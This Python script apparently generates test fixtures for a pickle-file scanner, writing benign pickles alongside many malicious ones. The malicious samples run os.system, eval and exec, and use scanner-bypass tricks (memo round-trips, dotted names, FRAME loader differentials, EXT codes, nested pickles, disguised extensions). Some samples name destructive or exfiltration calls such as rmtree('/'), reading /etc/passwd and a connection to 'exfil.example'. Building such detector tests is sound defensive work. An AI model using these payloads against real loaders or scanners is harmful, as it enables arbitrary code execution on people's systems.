"""Malicious and benign plain pickles: every protocol, every call opcode, and the published
bypass families (proto-0 STACK_GLOBAL via STRING, memo round-trips, dotted names, discarded calls,
broken pickles, concatenated pickles, EXT codes, FRAME tricks, unlisted stdlib/torch callables)."""
import collections
import datetime
import decimal
import fractions
import os
import pickle
import struct
import uuid

from _common import (PROTO2, PROTO4, binunicode, call1, glob, out_dirs, sbu, string0, write)

mal, ben = out_dirs()


def frame_skip(tail_in_frame, after):
    """A protocol-4 frame whose last opcode's operand runs past the frame's end: the linear
    reading stops at the STOP two bytes later; the file-object reading re-reads the operand from
    `after` and runs what follows it."""
    body = b"N0" + tail_in_frame
    return PROTO4 + b"\x95" + struct.pack("<Q", len(body)) + body + after


class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


# 1. the classic, in every protocol
for proto in range(6):
    write(mal, f"os_system_p{proto}.pkl", pickle.dumps(Evil(), protocol=proto))

# 2. hand-built call shapes
cmd = "echo pwned"
cases = {
    "subprocess_popen.pkl": PROTO2 + glob("subprocess", "Popen") + sbu(cmd) + b"\x85R.",
    "builtins_eval.pkl": PROTO2 + call1("builtins", "eval", "__import__('os').system('id')") + b".",
    "builtins_exec_p0.pkl": glob("__builtin__", "exec") + b"(" + string0("import os") + b"tR.",
    "inst_opcode.pkl": b"(" + string0(cmd) + b"ios\nsystem\n.",
    "obj_opcode.pkl": PROTO2 + b"(" + glob("os", "system") + sbu(cmd) + b"o.",
    "newobj.pkl": PROTO2 + glob("subprocess", "Popen") + sbu(cmd) + b"\x85\x81.",
    "newobj_ex.pkl": PROTO4 + glob("subprocess", "Popen") + sbu(cmd) + b"\x85}\x92.",
    "build_on_module.pkl": PROTO2 + glob("os", "environ") + b"}" + sbu("LD_PRELOAD") + sbu("/tmp/x.so") + b"sb.",
    # proto-0 STACK_GLOBAL whose operands come from STRING opcodes
    "stack_global_string.pkl": string0("os") + string0("system") + b"\x93" + string0(cmd) + b"\x85R.",
    "stack_global_binstring.pkl": PROTO4 + b"U\x02os" + b"T\x06\x00\x00\x00system" + b"\x93" + sbu(cmd) + b"\x85R.",
    "stack_global_unicode0.pkl": b"Vos\nVsystem\n\x93" + b"V" + cmd.encode() + b"\n\x85R.",
    "stack_global_binunicode8.pkl": PROTO4 + b"\x8d" + struct.pack("<Q", 2) + b"os" + binunicode("system") + b"\x93" + sbu(cmd) + b"\x85R.",
    # memo tricks: names and callables round-trip through the memo
    "memo_names.pkl": PROTO4 + sbu("os") + b"\x94" + sbu("system") + b"\x94" + b"0" + b"0" + b"h\x00h\x01\x93" + sbu(cmd) + b"\x85R.",
    "memo_callable.pkl": PROTO2 + glob("os", "system") + b"q\x07" + b"0" + b"]" + b"h\x07" + sbu(cmd) + b"\x85Ra.",
    "memo_long.pkl": PROTO2 + glob("posix", "system") + b"r\x00\x01\x00\x00" + b"0" + b"j\x00\x01\x00\x00" + sbu(cmd) + b"\x85R.",
    "memo_text_put_get.pkl": glob("nt", "system") + b"p99\n0g99\n(" + string0(cmd) + b"tR.",
    # dotted names resolved attribute by attribute
    "dotted_pathlib_os.pkl": PROTO4 + sbu("pathlib") + sbu("os.system") + b"\x93" + sbu(cmd) + b"\x85R.",
    "dotted_builtins_attr.pkl": PROTO4 + sbu("collections") + sbu("__builtins__.eval") + b"\x93" + sbu("1") + b"\x85R.",
    "dotted_torch_attr.pkl": PROTO4 + sbu("torch.serialization") + sbu("os.system") + b"\x93" + sbu(cmd) + b"\x85R.",
    # calls whose result is thrown away, then a harmless payload
    "discarded_call.pkl": PROTO2 + call1("os", "system", cmd) + b"0" + b"}." ,
    "discarded_pop_mark.pkl": PROTO2 + b"(" + call1("os", "system", cmd) + b"1" + b"N.",
    # broken pickles: the loader ran the call before it failed
    "truncated_after_reduce.pkl": PROTO2 + call1("os", "system", cmd),
    "garbage_after_reduce.pkl": PROTO2 + call1("os", "system", cmd) + b"\xff\xfe garbage",
    "bad_opcode_unknown_global.pkl": PROTO2 + call1("somepkg.helpers", "run_setup", cmd) + b"\xff",
    # several pickles in one file: a harmless one first
    "concatenated.pkl": pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + pickle.dumps(Evil(), protocol=2),
    # EXT codes: copyreg.add_extension registers os.system, then EXT1 loads it
    "ext_registry.pkl": PROTO2 + glob("copyreg", "add_extension") + sbu("os") + sbu("system") + b"K\x2a\x87R0"
                        + b"\x82\x2a" + sbu(cmd) + b"\x85R.",
    # FRAME: opcodes crossing the end of the declared frame (C and Python unpicklers disagree)
    "frame_cross.pkl": PROTO4 + b"\x95" + struct.pack("<Q", 5) + glob("os", "system") + sbu(cmd) + b"\x85R.",
    # Loader differentials on FRAME: each file reads harmlessly under one loader and calls
    # os.system under another (pickle_vm.hpp `Reading`); the verdict is the worst reading's.
    # - the C unpickler on a file object (torch.load, pickle.load on an io.BytesIO) drops the
    #   frame's tail when a read crosses the frame's end and reads the operand after the frame
    #   (bytes payloads only on CPython 3.7 and older; 3.8+ reads them with readinto):
    "frame_file_reading_bytes.pkl": frame_skip(b"B" + struct.pack("<I", 4) + b"ab",
                                               b"\x00\x00.\x00" + glob("os", "system") + b"(" + string0(cmd) + b"tR."),
    "frame_file_reading_unicode.pkl": frame_skip(b"X" + struct.pack("<I", 6) + b"abc",
                                                 b"abc" + b"0." + b"\x00" + glob("posix", "system") + sbu(cmd) + b"\x85R."),
    # - ...and a text line (GLOBAL) whose newline lies after the frame is read from there:
    "frame_file_reading_line.pkl": PROTO4 + b"\x95" + struct.pack("<Q", 6) + b"cjunkX" + b"os\nsystem\n" + sbu(cmd) + b"\x85R.",
    # - a FRAME inside an unfinished frame that does not fit in the buffer is read after it:
    "frame_nested_file_reading.pkl": PROTO4 + b"\x95" + struct.pack("<Q", 12) + b"\x95"
                                     + struct.pack("<Q", len(call1("os", "system", cmd)) + 1) + b"N0."
                                     + call1("os", "system", cmd) + b".",
    # - the Python unpickler (joblib.load, dill.load) accepts a FRAME longer than the data, where
    #   the C unpickler stops before the first opcode:
    "frame_truncated_python_reading.pkl": PROTO4 + b"\x95" + struct.pack("<Q", 1 << 20) + call1("os", "system", cmd) + b".",
    "frame_truncated_python_stack_global.pkl": PROTO4 + b"\x95" + struct.pack("<Q", 4096) + sbu("subprocess")
                                               + sbu("getoutput") + b"\x93" + sbu(cmd) + b"\x85R.",
    # pickles inside pickles
    "nested_pickle_loads.pkl": PROTO2 + glob("pickle", "loads") + b"C" + bytes([len(pickle.dumps(Evil(), 2))])
                               + pickle.dumps(Evil(), 2) + b"\x85R.",
    "nested_torch_load_bytes.pkl": PROTO2 + glob("torch.storage", "_load_from_bytes") + b"C" +
                                   bytes([len(pickle.dumps(Evil(), 2))]) + pickle.dumps(Evil(), 2) + b"\x85R.",
    # gadget chains through call results
    "getattr_chain.pkl": PROTO2 + glob("builtins", "getattr") + glob("os", "getcwd") + sbu("__globals__") + b"\x86R.",
    "import_module_getattr_static.pkl": PROTO2 + glob("inspect", "getattr_static") + glob("importlib", "import_module")
                                        + sbu("os") + b"\x85R" + sbu("system") + b"\x86R" + sbu(cmd) + b"\x85R.",
    "resolve_name_call.pkl": PROTO2 + glob("pkgutil", "resolve_name") + sbu("os:system") + b"\x85R" + sbu(cmd) + b"\x85R.",
    "functools_partial_torch_load.pkl": PROTO2 + glob("functools", "partial") + glob("torch", "load") + sbu("/tmp/x.pt")
                                        + b"\x86R)R.",
    "operator_methodcaller.pkl": PROTO2 + glob("operator", "methodcaller") + sbu("system") + sbu(cmd) + b"\x86R"
                                 + glob("os", "getcwd") + b"\x85R.",
}
# unlisted callables from the standard library (the published denylist bypasses)
unlisted = {
    "pip_main": ("pip", "main", "install evil"),
    "asyncio_subprocess": ("asyncio.unix_events", "_UnixSubprocessTransport._start", cmd),
    "trace_run": ("trace", "Trace.run", "import os"),
    "cprofile_run": ("cProfile", "run", "import os; os.system('id')"),
    "timeit": ("timeit", "timeit", "import os; os.system('id')"),
    "code_runcode": ("code", "InteractiveInterpreter.runcode", "import os"),
    "runpy_run_code": ("runpy", "_run_code", "import os"),
    "types_functiontype": ("types", "FunctionType", "x"),
    "marshal_loads": ("marshal", "loads", "x"),
    "ctypes_cdll": ("ctypes", "CDLL", "/tmp/evil.so"),
    "venv_create": ("venv", "create", "/tmp/venv"),
    "pydoc_pipepager": ("pydoc", "pipepager", cmd),
    "ssl_get_server_certificate": ("ssl", "get_server_certificate", "exfil.example"),
    "webbrowser_open": ("webbrowser", "open", "http://example.invalid"),
    "shutil_rmtree": ("shutil", "rmtree", "/"),
    "socket_create_connection": ("socket", "create_connection", "example.invalid"),
    "torch_hub_load": ("torch.hub", "load", "evil/repo"),
    "torch_jit_load": ("torch.jit", "load", "/tmp/x.pt"),
    "torch_cpp_extension": ("torch.utils.cpp_extension", "load_inline", "x"),
    "torch_fx_reduce_graph_module": ("torch.fx.graph_module", "reduce_graph_module", "x"),
    "numpy_load": ("numpy", "load", "/tmp/x.npy"),
    "numpy_testing_runstring": ("numpy.testing._private.utils", "runstring", "import os"),
    "uuid_get_command_stdout": ("uuid", "_get_command_stdout", "id"),
    "io_open": ("io", "open", "/etc/passwd"),
    "logging_config_listen": ("logging.config", "listen", "9999"),
}
for stem, (m, n, a) in unlisted.items():
    cases[f"unlisted_{stem}.pkl"] = PROTO4 + sbu(m) + sbu(n) + b"\x93" + sbu(a) + b"\x85R."
for name, data in cases.items():
    write(mal, name, data)
# wrong extension: a raw pickle named like a safe format
write(mal, "disguised.safetensors", pickle.dumps(Evil(), protocol=4))
write(mal, "disguised.bin", pickle.dumps(Evil(), protocol=0))
write(mal, "disguised.txt", pickle.dumps(Evil(), protocol=0))

# --- benign: plain pickles of builtin and standard types -------------------------------------
values = {
    "dict": {"a": 1, "b": [1, 2, 3], "c": (4.5, None, True), "d": {"nested": "x"}},
    "list": list(range(100)),
    "strings": ["héllo", "", "x" * 300, b"bytes", bytearray(b"ba")],
    "numbers": [0, -1, 2**70, -2**70, 3.25, complex(1, 2), True, False, None],
    "sets": [set([1, 2, 3]), frozenset(["a", "b"])],
    "ordered": collections.OrderedDict([("x", 1), ("y", 2)]),
    "defaultdict": collections.defaultdict(list, {"k": [1]}),
    "counter": collections.Counter("hello"),
    "deque": collections.deque([1, 2, 3]),
    "dates": [datetime.datetime(2024, 1, 2, 3, 4, 5), datetime.date(2020, 1, 1), datetime.timedelta(seconds=5)],
    "decimal": [decimal.Decimal("1.5"), fractions.Fraction(1, 3)],
    "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
    "slices": [slice(1, 2, 3), range(5)],
    "shared_refs": (lambda l: [l, l, {"again": l}])([1, 2]),
}
for key, value in values.items():
    for proto in range(6):
        write(ben, f"plain_{key}_p{proto}.pkl", pickle.dumps(value, protocol=proto))
write(ben, "multi_pickles.pkl", b"".join(pickle.dumps(v, protocol=4) for v in values.values()))
